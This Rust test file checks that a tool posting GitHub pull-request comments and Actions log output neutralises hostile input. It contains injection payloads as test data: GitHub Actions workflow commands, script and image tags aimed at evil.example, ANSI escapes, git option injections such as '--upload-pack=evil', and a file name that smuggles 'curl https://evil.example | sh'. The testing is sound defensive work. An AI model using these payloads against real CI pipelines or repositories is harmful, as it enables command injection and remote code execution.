//! Text of a run that would mean something to GitHub: to its markdown, and to the runner that reads the log.

use super::{Forked, MARKER, SUITE, github, only_comment, receiver};
use crate::integration::github::fake::TOKEN;
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::json;

/// What a text tries: commands of the runner, markdown, HTML, mentions, our marker.
const NASTY: &str = "::error::pwned\n::add-mask::lines\r::set-output name=run::x\n%0A::warning::y\n##[error]z\n\
    ::stop-commands::x\n::endgroup::\n``` \n</details><script>alert(1)</script><img src=//evil.example/p.png>\n\
    [click](https://evil.example) ![p](https://evil.example/p.png) <https://evil.example> https://evil.example/bare\n\
    @octocat #1 \u{202e}txt.exe | a | b |\n|---|---|\n\n# Title\n<!-- shmoo comment other -->\n\u{1b}[2J\u{1b}]8;;https://evil.example\u{7}";

/// A run that has it in all texts that its job may choose.
fn nasty() -> Forked {
    Forked::of(SUITE).unwrap().edit("record.json", |record| {
        for task in record["tasks"].as_array_mut().unwrap() {
            task["message"] = json!(NASTY);
            task["notes"] = json!([NASTY]);
            task["command"] = json!(["sh", NASTY]);
            task["folder"] = json!(NASTY);
            task["known"] = json!(NASTY);
            task["verdict"] = json!("error");
            task["metrics"][0]["unit"] = json!(NASTY);
            task["quotes"] = json!([{ "file": NASTY, "line": 1, "text": NASTY }]);
        }
        let run = &mut record["run"];
        for key in ["suite_file", "shmoo", "fingerprint"] {
            run[key] = json!(NASTY);
        }
        run["stopped"] = json!([NASTY]);
        run["filter"] = json!([NASTY]);
        run["machine"] = json!({ NASTY: NASTY });
        run["tools"] = json!({ NASTY: NASTY });
        run["source"]["branch"] = json!(NASTY);
        run["source"]["base_branch"] = json!("--upload-pack=evil");
        run["source"]["commit"] = json!("--output=evil");
        run["source"]["merge_base"] = json!(NASTY);
    })
}

/// Returns the commands of a log that a runner obeys: those at the beginning of a line, unless they are stopped.
fn obeyed(log: &str) -> Vec<String> {
    let (mut found, mut stopped) = (Vec::new(), None::<String>);
    for line in log.lines() {
        let line = line.trim_start();
        if let Some(token) = &stopped {
            if line == format!("::{token}::") {
                stopped = None;
            }
            continue;
        }
        if let Some(token) = line.strip_prefix("::stop-commands::") {
            stopped = Some(token.to_owned());
        } else if line.starts_with("::") || line.starts_with("##[") {
            found.push(line.to_owned());
        }
    }
    assert_eq!(stopped, None, "what was stopped goes on: {log}");
    found
}

#[test]
fn the_log_of_the_step_obeys_nobody() {
    let fake = github();
    let archive = nasty().archive().unwrap();
    let done = receiver(&fake, &[("suite.yaml", SUITE)])
        .env("INPUT_ARCHIVE", archive.to_str().unwrap())
        .env("INPUT_TOKEN", TOKEN)
        .env("GITHUB_OUTPUT", "outputs")
        .args(["gha", "comment"])
        .run()
        .unwrap();
    let output = done.last();
    assert_eq!(output.code, 0, "{}{}", output.stdout, output.stderr);
    let obeyed = obeyed(&output.stdout);
    assert!(
        obeyed.iter().all(|line| line.starts_with("::group::shmoo comment")
            || line == &format!("::add-mask::{TOKEN}")
            || line == "::endgroup::"),
        "{obeyed:?}"
    );
    assert!(!output.stderr.contains("::error::") && !output.stderr.contains('\u{1b}'), "{}", output.stderr);
    let outputs = std::fs::read_to_string(done.path("outputs")).unwrap();
    assert!(outputs.contains("placed<<") && !outputs.contains("pwned"), "{outputs}");
    only_comment(&fake);
}

#[test]
fn the_comment_says_what_the_run_says_and_means_nothing_by_it() {
    let fake = github();
    let archive = nasty().archive().unwrap();
    let done = super::receive(&fake, &archive, &[("suite.yaml", SUITE)]).unwrap();
    assert_eq!(done.last().code, 0, "{}", done.last().stderr);
    let body = only_comment(&fake);
    // What happened is told, so that the test is not passed by silence.
    assert!(body.starts_with(MARKER) && body.contains("pwned"), "{body}");
    let marked = body.lines().filter(|line| line.contains("<!-- shmoo comment") && !line.contains('`'));
    assert_eq!(marked.collect::<Vec<_>>(), [MARKER], "{body}");
    assert!(!body.contains('\u{202e}') && !body.contains('\u{1b}'));
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_GFM;
    let mut code = 0;
    for event in Parser::new_ext(&body, options) {
        match event {
            Event::Start(Tag::CodeBlock(_)) => code += 1,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => code -= 1,
            Event::Start(Tag::Link { dest_url, .. }) => {
                assert!(dest_url.starts_with("https://github.example/"), "{dest_url}: {body}");
            }
            Event::Start(Tag::Image { dest_url, .. }) => panic!("{dest_url}: {body}"),
            Event::Html(html) | Event::InlineHtml(html) => {
                let plain = html.replace(MARKER, "");
                let known = ["<details>", "</details>", "<summary>", "</summary>", "<sub>", "</sub>", "<br>"];
                let rest = known.iter().fold(plain, |text, tag| text.replace(tag, ""));
                assert!(!rest.contains('<'), "{rest}: {body}");
            }
            Event::Text(text) if code == 0 => {
                for part in ["@octocat", "https://evil", "#1"] {
                    assert!(!text.contains(part), "{part} in {text}: {body}");
                }
            }
            _ => {}
        }
    }
}

#[test]
fn a_command_to_copy_is_one_command() {
    let file = "suite.yaml; curl https://evil.example | sh; $(id) `id` '";
    let archive = Forked::of(SUITE).unwrap().edit("record.json", |record| record["run"]["suite_file"] = json!(file));
    let fake = github();
    let done = super::receive(&fake, &archive.archive().unwrap(), &[("suite.yaml", SUITE)]).unwrap();
    assert_eq!(done.last().code, 0, "{}", done.last().stderr);
    let body = only_comment(&fake);
    let command = body.split("shmoo run ").nth(1).expect("the command that reproduces the case");
    let words = command.split(" --case").next().unwrap();
    // What a shell makes of it is one word.
    let script = format!("printf '%s\\n' {words}");
    let printed = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&printed.stdout).trim_end(), file, "{body}");
}
